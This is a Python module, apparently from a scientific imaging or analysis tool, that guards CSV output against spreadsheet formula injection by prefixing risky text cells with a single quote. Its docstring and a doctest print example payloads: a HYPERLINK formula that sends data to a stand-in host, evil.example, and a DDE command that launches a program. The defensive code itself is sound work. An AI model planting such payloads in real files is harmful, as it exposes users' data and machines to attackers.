"""CSV that spreadsheets open as data: every CSV writer's cells go through here.

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula (also after a leading tab or carriage
return, which they strip): ``=HYPERLINK("https://evil.example/?"&A1, "...")``
sends data away, ``=cmd|' /C calc'!A0`` starts a program (DDE). A seed's type
and source, a DL-QC check and message, a path's name come from whoever
uploaded them, so such a cell is written with a single quote in front
(OWASP's rule for CSV injection), which spreadsheets show as text. A number
(``-3.500000``, ``+1e-3``) stays as it is: a negative number is data, and the
readers of our CSVs, SNT's included, parse it back.
"""

from __future__ import annotations

import csv
import re

#: What makes a spreadsheet cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def safe_cell(value):
    """``value``, with a ``'`` in front if it is text a spreadsheet would run as a formula.

    Examples
    --------
    >>> safe_cell("=cmd|' /C calc'!A0"), safe_cell("-2.500000"), safe_cell(-2.5), safe_cell("soma")
    ("'=cmd|' /C calc'!A0", '-2.500000', -2.5, 'soma')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(fh, **kwargs) -> _SafeWriter:
    """:func:`csv.writer` on ``fh`` (same keyword arguments) whose rows pass through :func:`safe_cell`."""
    return _SafeWriter(csv.writer(fh, **kwargs))
